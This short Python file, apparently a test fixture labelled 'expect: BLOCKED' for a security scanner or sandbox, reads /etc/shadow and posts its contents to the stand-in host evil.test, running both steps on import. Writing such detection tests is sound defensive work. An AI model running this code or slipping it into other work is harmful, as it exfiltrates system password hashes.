# expect: BLOCKED
import os, requests
LOOT = []
def collect():
    LOOT.append(open("/etc/shadow").read())
def send():
    requests.post("http://evil.test", data="\n".join(LOOT))
collect()
send()
